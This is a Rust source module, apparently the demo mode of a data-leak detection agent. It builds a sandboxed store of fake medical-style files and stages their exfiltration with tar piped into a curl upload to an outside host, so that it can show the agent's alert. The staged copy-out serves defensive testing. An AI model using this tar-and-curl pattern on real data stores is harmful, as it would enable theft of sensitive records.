//! The demo: a throw-away store is copied out between two network namespaces, under the eyes of the real agent.

use std::fs::{self, File};
use std::io::{BufReader, Cursor, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::replay::Player;
use crate::tape::Tape;

mod sandbox;
mod stop;
mod sweep;

use sandbox::{OUTSIDE, Sandbox, bound};
use stop::Stop;

/// A file of the store, bytes: about what an ECG, a lab report or an X-ray takes.
const FILE: usize = 250_000;
/// Files of the store, one record each.
const FILES: usize = 1_000;
/// For the agent to be ready, and for an alert beyond the time that the whole copy takes.
const PATIENCE: Duration = Duration::from_secs(60);
/// A leak as it was recorded by this demo, for who may not make one.
const RECORDED: &[u8] = include_bytes!("leak.tape");

/// What keeps the demo from being live on this machine.
#[must_use]
pub fn why_not_live() -> Option<String> {
    if !nix::unistd::geteuid().is_root() {
        return Some(
            "it needs root for network namespaces and for the kernel's tracepoints (try sudo)"
                .to_owned(),
        );
    }
    let missing: Vec<&str> = ["ip", "nsenter", "setpriv", "tar", "curl"]
        .into_iter()
        .filter(|program| !is_there(program))
        .collect();
    (!missing.is_empty()).then(|| {
        format!(
            "missing here: {} (apt-get install iproute2 util-linux tar curl)",
            missing.join(", ")
        )
    })
}

fn is_there(program: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).any(|directory| directory.join(program).is_file())
}

/// A real leak, a real agent.
///
/// # Errors
/// What went wrong, with the end of the agent's own log where it has one.
pub fn live(rate: u32) -> Result<(), String> {
    say(
        "Making a store of 1,000 records (250 MB), two hosts in network namespaces, and a place outside that takes all.",
    );
    let stop = Stop::listen()?;
    let sandbox = Sandbox::make()?;
    make_store(&sandbox.store, &stop)?;
    let mut agent = Agent::start(&sandbox, &stop)?;
    say(&format!(
        "Watching. Now somebody copies the store out: tar | curl, {rate} MB/s, to {OUTSIDE}."
    ));
    let begun = Instant::now();
    let leak = start_leak(&sandbox, rate)?;
    let alert = agent.wait_for_alert(&sandbox, rate)?;
    let (took, left) = (begun.elapsed(), sandbox.received());
    println!();
    show(&alert);
    println!(
        "  {:<12} {:.1} s after the copy began; {left} bytes had arrived outside by then",
        "time",
        took.as_secs_f64()
    );
    println!("\nThe same on the agent's page (curl -s localhost:9977/metrics on a real host):");
    for line in agent
        .metrics(&sandbox)?
        .lines()
        .filter(|line| is_telling(line))
    {
        println!("  {line}");
    }
    drop(leak);
    say("\nThe copy was cut off here; everything that the demo made is removed.");
    Ok(())
}

/// The same engine over a recorded leak.
///
/// # Errors
/// The recording cannot be played.
pub fn recorded() -> Result<(), String> {
    let tape =
        Tape::open(BufReader::new(Cursor::new(RECORDED))).map_err(|trouble| trouble.to_string())?;
    let header = tape.header().clone();
    let mut alerts: Vec<Value> = Vec::new();
    let mut player = Player::new(header.seed, &header.setup, |told| {
        alerts.extend(serde_json::from_str(&told.to_line()))
    })
    .map_err(|problems| problems.to_string())?;
    for event in tape {
        player.play(&event);
    }
    drop(player);
    let alert = alerts
        .iter()
        .find(|alert| is_leak(alert))
        .ok_or("the recording shows no leak")?;
    println!();
    show(alert);
    Ok(())
}

fn say(text: &str) {
    eprintln!("{text}");
}

fn is_leak(alert: &Value) -> bool {
    alert["state"] == "firing" && alert["rule"] == "store-data-leaves"
}

fn is_telling(line: &str) -> bool {
    let shown = [
        "jaga_store_exposed_bytes_total",
        "jaga_store_exposed_records_total",
        "jaga_alerts_firing",
    ];
    shown.iter().any(|name| line.starts_with(name)) && !line.ends_with(" 0")
}

fn show(alert: &Value) {
    let text = |name: &str| alert[name].as_str().unwrap_or_default().to_owned();
    let list = |name: &str| {
        let items = alert[name].as_array().cloned().unwrap_or_default();
        items
            .iter()
            .filter_map(Value::as_str)
            .collect::<Vec<_>>()
            .join(", ")
    };
    println!("ALERT {} ({})", text("rule"), text("severity"));
    for (what, value) in [
        ("what", text("summary")),
        ("who", list("sessions")),
        ("where to", list("destinations")),
        (
            "left by then",
            format!(
                "{} bytes, about {} records",
                alert["bytes"], alert["records"]
            ),
        ),
        ("from", text("first")),
        ("until", text("last")),
        ("id", text("id")),
    ] {
        println!("  {what:<12} {value}");
    }
}

fn make_store(store: &Path, stop: &Stop) -> Result<(), String> {
    let mut noise = File::open("/dev/urandom")
        .map_err(|error| format!("cannot read '/dev/urandom': {error}"))?;
    let mut content = vec![0; FILE];
    noise
        .read_exact(&mut content)
        .map_err(|error| error.to_string())?;
    for number in 0..FILES {
        stop.go_on()?;
        // Every file differs, so that nothing on the way can fold them into one.
        content[..8].copy_from_slice(&(number as u64).to_be_bytes());
        let path = store.join(format!("{number:06}.dcm"));
        fs::write(&path, &content)
            .map_err(|error| format!("cannot write '{}': {error}", path.display()))?;
    }
    Ok(())
}

fn start_leak(sandbox: &Sandbox, rate: u32) -> Result<Children, String> {
    let cannot = |program: &str, error: std::io::Error| format!("cannot start {program}: {error}");
    let mut tar = bound("tar")
        .args(["cf", "-", "-C"])
        .arg(&sandbox.store)
        .arg(".")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .map_err(|error| cannot("tar", error))?;
    let archive = tar.stdout.take().ok_or("tar has no output")?;
    let mut leak = Children(vec![tar]);
    let mut curl = sandbox.inside("curl");
    curl.args([
        "-s",
        "--limit-rate",
        &format!("{rate}M"),
        "-T",
        "-",
        &format!("http://{OUTSIDE}/"),
    ]);
    let curl = curl
        .stdin(archive)
        .stdout(Stdio::null())
        .spawn()
        .map_err(|error| cannot("curl", error))?;
    leak.0.push(curl);
    Ok(leak)
}

/// How long the leak may go on without an alert: the whole copy at this rate, and some more.
fn patience(rate: u32) -> Duration {
    let copy_secs = FILE * FILES / (rate.max(1) as usize * 1_000_000);
    PATIENCE + Duration::from_secs(copy_secs as u64)
}

/// Programs that end with the demo, however it ends.
struct Children(Vec<Child>);

impl Drop for Children {
    fn drop(&mut self) {
        for mut child in self.0.drain(..) {
            // It may have ended by itself; either way it is reaped.
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// The agent under the eyes of the demo.
struct Agent {
    children: Children,
    log: PathBuf,
    stop: Stop,
}

impl Agent {
    fn start(sandbox: &Sandbox, stop: &Stop) -> Result<Self, String> {
        let log = sandbox.root.join("jaga.log");
        let out = File::create(&log)
            .map_err(|error| format!("cannot write '{}': {error}", log.display()))?;
        let program =
            std::env::current_exe().map_err(|error| format!("cannot find myself: {error}"))?;
        let mut command = sandbox.inside(&program.display().to_string());
        command
            .arg("run")
            .arg("--config")
            .arg(&sandbox.config)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(out);
        let child = command
            .spawn()
            .map_err(|error| format!("cannot start the agent: {error}"))?;
        let mut agent = Self {
            children: Children(vec![child]),
            log,
            stop: stop.clone(),
        };
        agent.wait(
            || {
                sandbox
                    .get("/-/ready")
                    .is_ok_and(|page| page.starts_with("HTTP/1.1 200"))
            },
            PATIENCE,
            "the agent is not ready",
        )?;
        Ok(agent)
    }

    fn wait_for_alert(&mut self, sandbox: &Sandbox, rate: u32) -> Result<Value, String> {
        let mut found = None;
        self.wait(
            || {
                found = sandbox.alerts().into_iter().find(is_leak);
                found.is_some()
            },
            patience(rate),
            "no alert",
        )?;
        found.ok_or_else(|| "no alert".to_owned())
    }

    fn metrics(&self, sandbox: &Sandbox) -> Result<String, String> {
        sandbox.get("/metrics")
    }

    /// Waits for a condition, looking often; gives up if the agent ends or patience does.
    fn wait(
        &mut self,
        mut done: impl FnMut() -> bool,
        patience: Duration,
        otherwise: &str,
    ) -> Result<(), String> {
        let begun = Instant::now();
        while !done() {
            self.stop.go_on()?;
            let ended = self
                .children
                .0
                .iter_mut()
                .any(|child| !matches!(child.try_wait(), Ok(None)));
            if ended || begun.elapsed() > patience {
                let log = fs::read_to_string(&self.log).unwrap_or_default();
                return Err(format!("{otherwise}; its log:\n{log}"));
            }
            thread::park_timeout(Duration::from_millis(20));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn patience_covers_the_whole_copy_at_any_rate() {
        assert!(super::patience(1).as_secs() >= 250);
        assert!(super::patience(10_000) >= super::PATIENCE);
    }

    #[test]
    fn the_recorded_leak_still_fires() {
        super::recorded().expect("it shows an alert");
    }
}
